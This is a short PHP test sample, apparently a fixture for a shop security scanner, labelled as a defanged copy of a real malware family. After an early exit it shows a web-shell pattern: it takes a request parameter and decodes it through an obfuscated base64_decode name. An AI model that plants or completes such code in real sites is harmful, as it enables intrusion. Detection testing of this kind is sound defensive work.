<?php /* ShopGuard test sample, DEFANGED: shape of a real family, payload removed. Never deploy. */ exit('defanged'); ?>
<?php
$sg = $_REQUEST['sg'];
$fn = 'base' . '64_decode';
$sg = $fn($sg);
